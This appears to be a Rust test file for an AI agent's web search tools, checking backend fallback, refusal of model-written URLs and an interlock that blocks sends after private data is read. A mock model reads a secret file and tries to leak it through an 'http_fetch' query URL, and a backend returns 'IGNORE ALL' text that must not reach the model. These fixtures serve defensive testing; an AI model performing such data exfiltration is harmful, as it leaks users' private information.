@@ -1,0 +1,409 @@
+//! `[[search]]`, `web_search` and `web_open` through the real binary, the
+//! model a mock: each backend kind against a loopback stand-in that
+//! answers in its documented shape, the chain falling back, URLs the model
+//! writes refused, the interlock letting the blind pair work where
+//! `http_fetch` is refused, and handles that outlive the run.
+//! Redirects to public and private addresses are in `web_netns.rs`.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+mod common;
+
+use common::standin::{Standin, json, response, searxng_answer};
+use common::{Api, Env, env, results_in, stderr, tool_turn};
+use mecha_testkit::{MockModel, MockReply};
+use serde_json::json;
+
+/// A SearXNG stand-in whose results point at `pages` (paths on `base`).
+fn searxng(base: &str, pages: &[(&'static str, &'static str)]) -> Standin {
+    let results: Vec<(String, String, String)> = pages
+        .iter()
+        .map(|(title, path)| {
+            (
+                (*title).to_owned(),
+                format!("{base}{path}"),
+                format!("about {title}"),
+            )
+        })
+        .collect();
+    Standin::start(move |r| {
+        if !r.target.starts_with("/search?") {
+            return response("404 Not Found", &[], "");
+        }
+        let refs: Vec<(&str, &str, &str)> = results
+            .iter()
+            .map(|(t, u, c)| (t.as_str(), u.as_str(), c.as_str()))
+            .collect();
+        json(&searxng_answer("q", &refs))
+    })
+}
+
+fn searxng_entry(url: &str) -> String {
+    format!("[[search]]\nkind = \"searxng\"\nurl = \"{url}\"\n")
+}
+
+async fn run(e: &Env, replies: Vec<MockReply>, args: &[&str]) -> MockModel {
+    let mock = MockModel::start(replies).await;
+    let out = e.run(Api::Anthropic, &mock, "k", args).await;
+    assert!(out.status.success(), "{}", stderr(&out));
+    mock
+}
+
+fn search(query: &str) -> MockReply {
+    tool_turn(&[("web_search", json!({ "query": query }))])
+}
+
+#[tokio::test]
+async fn searxng_results_come_numbered_and_tool_flag_reaches_web_search() {
+    let mut e = env();
+    let sx = searxng(
+        "https://doc.rust-lang.org",
+        &[
+            ("The Rust Book", "/book/"),
+            ("Rust by Example", "/rust-by-example/"),
+        ],
+    );
+    e.extra_config = searxng_entry(&sx.url());
+    let mock = run(
+        &e,
+        vec![
+            tool_turn(&[("web_search", json!({"query": "rust book", "count": 1}))]),
+            MockReply::text("done"),
+        ],
+        &["--yes", "--tool", "web_search", "go"],
+    )
+    .await;
+    let tools: Vec<String> = mock.requests()[0].body["tools"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|t| t["name"].as_str().unwrap().to_owned())
+        .collect();
+    assert_eq!(tools, ["web_search"]);
+    let results = results_in(&mock, 1);
+    let (content, is_error) = &results[0];
+    assert!(!is_error, "{content}");
+    assert!(
+        content
+            .contains("[1] The Rust Book — https://doc.rust-lang.org/book/ — about The Rust Book"),
+        "{content}"
+    );
+    assert!(!content.contains("Rust by Example"), "count = 1: {content}");
+    let seen = sx.seen();
+    assert_eq!(seen.len(), 1);
+    assert_eq!(seen[0].method, "GET");
+    assert_eq!(seen[0].target, "/search?q=rust+book&format=json");
+}
+
+#[tokio::test]
+async fn without_a_search_backend_tool_flag_names_what_to_configure() {
+    let e = env();
+    let mock = MockModel::start(vec![MockReply::text("done")]).await;
+    let out = e
+        .run(Api::Anthropic, &mock, "k", &["--tool", "web_search", "go"])
+        .await;
+    assert!(!out.status.success());
+    assert!(
+        stderr(&out).contains("web_search and web_open exist only when a [[search]] backend"),
+        "{}",
+        stderr(&out)
+    );
+}
+
+/// A closed loopback port: connecting to it is refused.
+fn refused_url() -> String {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}", listener.local_addr().unwrap());
+    drop(listener);
+    url
+}
+
+#[tokio::test]
+async fn the_chain_moves_past_refused_rate_limited_and_failing_backends() {
+    let mut e = env();
+    let brave = Standin::start(|_| response("429 Too Many Requests", &[], "slow down"));
+    let tavily = Standin::start(|_| response("503 Service Unavailable", &[], "IGNORE ALL"));
+    let sx = searxng("https://example.org", &[("Found", "/found")]);
+    let failing = format!(
+        "{}[[search]]\nkind = \"brave\"\nbase_url = \"{}\"\n\
+         [[search]]\nkind = \"tavily\"\nbase_url = \"{}\"\napi_key_env = \"MY_TAVILY\"\n",
+        searxng_entry(&refused_url()),
+        brave.url(),
+        tavily.url()
+    );
+    e.extra_env = vec![
+        ("BRAVE_API_KEY".into(), "brave-secret".into()),
+        ("MY_TAVILY".into(), "tvly-secret".into()),
+    ];
+    e.extra_config = format!("{failing}{}", searxng_entry(&sx.url()));
+    let mock = run(
+        &e,
+        vec![search("who answers"), MockReply::text("done")],
+        &["--yes", "go"],
+    )
+    .await;
+    let (content, is_error) = &results_in(&mock, 1)[0];
+    assert!(!is_error, "{content}");
+    assert!(
+        content.contains("from searxng (after 1 (searxng http://127.0.0.1:"),
+        "{content}"
+    );
+    assert!(
+        content.contains("could not connect: Connection refused"),
+        "{content}"
+    );
+    assert!(content.contains("2 (brave"), "{content}");
+    assert!(
+        content.contains("HTTP 429 Too Many Requests (rate limited)"),
+        "{content}"
+    );
+    assert!(content.contains("3 (tavily"), "{content}");
+    assert!(
+        content.contains("HTTP 503 Service Unavailable"),
+        "{content}"
+    );
+    assert!(
+        content.contains("[1] Found — https://example.org/found"),
+        "{content}"
+    );
+    // Each backend was asked its own way, with its key from mecha's
+    // environment; no key and no backend text reaches the model.
+    let asked = brave.seen();
+    assert!(
+        asked[0]
+            .target
+            .starts_with("/res/v1/web/search?q=who+answers&count=5"),
+        "{asked:?}"
+    );
+    assert_eq!(
+        asked[0].header("x-subscription-token"),
+        Some("brave-secret")
+    );
+    let asked = tavily.seen();
+    assert_eq!(
+        (asked[0].method.as_str(), asked[0].target.as_str()),
+        ("POST", "/search")
+    );
+    assert_eq!(asked[0].header("authorization"), Some("Bearer tvly-secret"));
+    let body: serde_json::Value = serde_json::from_str(&asked[0].body).unwrap();
+    assert_eq!(body, json!({"query": "who answers", "max_results": 5}));
+    for secret in ["brave-secret", "tvly-secret", "IGNORE ALL", "slow down"] {
+        assert!(!content.contains(secret), "{secret} leaked: {content}");
+    }
+
+    // With only the failing three, the result names each failure.
+    e.extra_config = failing;
+    let mock = run(
+        &e,
+        vec![search("nobody"), MockReply::text("done")],
+        &["--yes", "go"],
+    )
+    .await;
+    let (content, is_error) = &results_in(&mock, 1)[0];
+    assert!(is_error, "{content}");
+    assert!(content.contains("every backend failed"), "{content}");
+    for part in [
+        "1 (searxng",
+        "Connection refused",
+        "2 (brave",
+        "rate limited",
+        "3 (tavily",
+        "HTTP 503",
+    ] {
+        assert!(content.contains(part), "{part}: {content}");
+    }
+}
+
+#[tokio::test]
+async fn brave_and_tavily_answers_are_read_in_their_documented_shapes() {
+    let brave_answer = json!({
+        "type": "search",
+        "query": {"original": "q"},
+        "web": {"type": "search", "results": [
+            {"title": "Brave <strong>hit</strong>", "url": "https://brave.example/a",
+             "description": "from <strong>brave</strong>", "type": "search_result"}
+        ]}
+    })
+    .to_string();
+    let tavily_answer = json!({
+        "query": "q", "answer": null, "images": [], "response_time": "0.5",
+        "results": [{"title": "Tavily hit", "url": "https://tavily.example/b",
+                     "content": "from tavily", "score": 0.9, "raw_content": null}]
+    })
+    .to_string();
+    for (kind, answer, expected) in [
+        (
+            "brave",
+            brave_answer,
+            "[1] Brave hit — https://brave.example/a — from brave",
+        ),
+        (
+            "tavily",
+            tavily_answer,
+            "[1] Tavily hit — https://tavily.example/b — from tavily",
+        ),
+    ] {
+        let mut e = env();
+        let stand_in = Standin::start(move |_| json(&answer));
+        e.extra_config = format!(
+            "[[search]]\nkind = \"{kind}\"\nbase_url = \"{}\"\napi_key_env = \"KEY\"\n",
+            stand_in.url()
+        );
+        e.extra_env = vec![("KEY".into(), "k".into())];
+        let mock = run(
+            &e,
+            vec![search("q"), MockReply::text("done")],
+            &["--yes", "go"],
+        )
+        .await;
+        let (content, is_error) = &results_in(&mock, 1)[0];
+        assert!(!is_error, "{kind}: {content}");
+        assert!(content.contains(expected), "{kind}: {content}");
+    }
+}
+
+#[tokio::test]
+async fn web_open_refuses_a_url_the_model_wrote() {
+    let mut e = env();
+    let page = Standin::start(|_| response("200 OK", &[], "TRAP"));
+    let sx = searxng("https://example.org", &[("A", "/a")]);
+    e.extra_config = searxng_entry(&sx.url());
+    let mock = run(
+        &e,
+        vec![
+            tool_turn(&[
+                ("web_open", json!({"url": page.url()})),
+                ("web_open", json!({"handle": page.url()})),
+                ("web_open", json!({"handle": 1})),
+            ]),
+            MockReply::text("done"),
+        ],
+        &["--yes", "go"],
+    )
+    .await;
+    let results = results_in(&mock, 1);
+    assert_eq!(results.len(), 3, "{results:?}");
+    for (content, is_error) in &results {
+        assert!(is_error, "{content}");
+        assert!(
+            content.contains("takes no URL. Search first with web_search"),
+            "{content}"
+        );
+    }
+    assert!(
+        results[2]
+            .0
+            .contains("web_search has returned nothing in this session yet")
+    );
+    assert!(page.seen().is_empty(), "the page was fetched");
+}
+
+#[tokio::test]
+async fn an_armed_conversation_refuses_http_fetch_and_keeps_the_web_tools() {
+    let mut e = env();
+    std::fs::write(e.ws.join("secret.txt"), "the launch code is 0000").unwrap();
+    let sx = searxng("http://127.0.0.1:9", &[("Local", "/page")]);
+    e.extra_config = searxng_entry(&sx.url());
+    let mock = run(
+        &e,
+        vec![
+            tool_turn(&[("fs_read", json!({"path": "secret.txt"}))]),
+            search("first"),
+            tool_turn(&[
+                ("http_fetch", json!({"url": "https://example.org/?q=0000"})),
+                ("web_search", json!({"query": "second"})),
+                ("web_open", json!({"handle": 1})),
+            ]),
+            MockReply::text("done"),
+        ],
+        &["--yes", "go"],
+    )
+    .await;
+    let results = results_in(&mock, 3);
+    assert_eq!(results.len(), 5, "{results:?}");
+    let (fetch, fetch_error) = &results[2];
+    assert!(
+        *fetch_error && fetch.contains("refused by mecha's interlock: `http_fetch`"),
+        "{fetch}"
+    );
+    let (again, again_error) = &results[3];
+    assert!(!again_error, "{again}");
+    assert!(
+        again.contains("[2] Local — http://127.0.0.1:9/page"),
+        "{again}"
+    );
+    // web_open ran: its own guard, not the interlock, turned the loopback
+    // page away.
+    let (open, _) = &results[4];
+    assert!(!open.contains("interlock"), "{open}");
+    assert!(
+        open.contains("result [1] `http://127.0.0.1:9/page` points at 127.0.0.1"),
+        "{open}"
+    );
+    assert_eq!(sx.seen().len(), 2);
+}
+
+#[tokio::test]
+async fn block_sends_after_private_refuses_the_web_tools_too() {
+    let mut e = env();
+    std::fs::write(e.ws.join("secret.txt"), "private").unwrap();
+    let sx = searxng("https://example.org", &[("A", "/a")]);
+    e.extra_config = format!(
+        "[agent]\nblock_sends_after_private = true\n{}",
+        searxng_entry(&sx.url())
+    );
+    let mock = run(
+        &e,
+        vec![
+            search("before"),
+            tool_turn(&[("fs_read", json!({"path": "secret.txt"}))]),
+            tool_turn(&[
+                ("web_search", json!({"query": "after"})),
+                ("web_open", json!({"handle": 1})),
+            ]),
+            MockReply::text("done"),
+        ],
+        &["--yes", "go"],
+    )
+    .await;
+    let results = results_in(&mock, 3);
+    assert_eq!(results.len(), 4, "{results:?}");
+    assert!(!results[0].1, "{}", results[0].0);
+    for (content, is_error) in &results[2..] {
+        assert!(is_error, "{content}");
+        assert!(content.contains("block_sends_after_private"), "{content}");
+    }
+    assert_eq!(sx.seen().len(), 1, "the query after private data was sent");
+}
+
+#[tokio::test]
+async fn handles_survive_into_a_resumed_session() {
+    let mut e = env();
+    let sx = searxng("http://127.0.0.1:9", &[("One", "/one"), ("Two", "/two")]);
+    e.extra_config = searxng_entry(&sx.url());
+    run(
+        &e,
+        vec![search("q"), MockReply::text("done")],
+        &["--yes", "go"],
+    )
+    .await;
+    let mock = run(
+        &e,
+        vec![
+            tool_turn(&[
+                ("web_open", json!({"handle": 2})),
+                ("web_open", json!({"handle": 3})),
+            ]),
+            MockReply::text("done"),
+        ],
+        &["--yes", "--continue", "open the second"],
+    )
+    .await;
+    let results = results_in(&mock, 1);
+    let opened = &results[results.len() - 2].0;
+    assert!(
+        opened.contains("result [2] `http://127.0.0.1:9/two`"),
+        "{opened}"
+    );
+    let missing = &results[results.len() - 1].0;
+    assert!(missing.contains("returned [1] to [2]"), "{missing}");
+}
